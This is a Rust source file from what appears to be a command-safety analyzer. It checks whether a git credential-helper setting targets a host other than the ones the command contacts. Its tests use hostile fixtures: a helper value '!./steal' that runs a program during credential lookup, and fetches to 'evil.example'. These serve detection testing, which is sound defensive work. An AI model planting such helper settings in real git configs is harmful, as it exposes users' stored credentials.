//! Credential helpers of git: which hosts they are for.

use super::super::Invocation;
use super::git_config::host;
use crate::world::Git;

/// The setting names a helper for a host that the command does not contact.
pub(super) fn is_for_another_host(key: &str, git: &Git, invocation: &Invocation) -> bool {
    let Some(address) = key.strip_prefix("credential.").and_then(|rest| rest.strip_suffix(".helper")) else {
        return false;
    };
    // Further values of one key are told apart by what follows this sign.
    let helped = host(address.split('#').next().unwrap_or(address));
    let is_plain = !helped.is_empty() && !helped.contains(['*', '?', '[']);
    is_plain
        && contacted(git, invocation).is_some_and(|hosts| !hosts.iter().any(|known| known.eq_ignore_ascii_case(helped)))
}

/// Every host that the command may speak to; `None` if that is not known.
fn contacted<'a>(git: &'a Git, invocation: &'a Invocation) -> Option<Vec<&'a str>> {
    let config = git.config.as_ref().ok()?;
    // Addresses may be rewritten, and submodules have some of their own.
    let may_be_others = |key: &String| key.starts_with("url.") || key.starts_with("submodule.");
    if config.keys().any(may_be_others) || invocation.by.name.starts_with("git submodule") {
        return None;
    }
    let is_remote = |key: &str| key.starts_with("remote.") && (key.ends_with("url") || key.contains("#"));
    let mut hosts: Vec<&str> = git.remotes.values().map(|address| host(address)).collect();
    hosts.extend(config.iter().filter(|(key, _)| is_remote(key)).map(|(_, address)| host(address)));
    for word in &invocation.args.operands {
        hosts.push(host(word.exact()?));
    }
    Some(hosts)
}

#[cfg(test)]
mod tests {
    use super::super::check::check_in;

    const GIT: &str =
        "name = 'git'\nwhat = 'x'\ngrammar = 'git'\noperands = ['data*']\n[sub.fetch]\noperands = ['data*']\n";

    #[test]
    fn a_helper_counts_for_its_own_host() {
        let unsafe_setting = "execute something unknown +unsafe-git-config";
        let dynamic = "execute something unknown +unsafe-git-config; read something unknown";
        for (helper, remote, command, coverage, effects) in [
            ("https://source.example.net", "https://github.com/a/b.git", "git fetch", "full", ""),
            ("https://github.com", "https://github.com/a/b.git", "git fetch", "opaque", unsafe_setting),
            ("https://github.com", "git@GitHub.com:a/b.git", "git fetch", "opaque", unsafe_setting),
            ("https://*.example.net", "https://github.com/a/b.git", "git fetch", "opaque", unsafe_setting),
            (
                "https://evil.example",
                "https://github.com/a/b.git",
                "git fetch https://evil.example/x",
                "opaque",
                "network evil.example; execute something unknown +unsafe-git-config",
            ),
            ("https://evil.example", "https://github.com/a/b.git", "git fetch $URL", "opaque", dynamic),
        ] {
            let world = format!(
                r#"{{"git": {{"remotes": {{"origin": "{remote}"}}, "config": {{"credential.{helper}.helper": "!./steal"}}}}}}"#
            );
            check_in(&world, &[GIT], &[(command, coverage, effects)]);
        }
    }
}
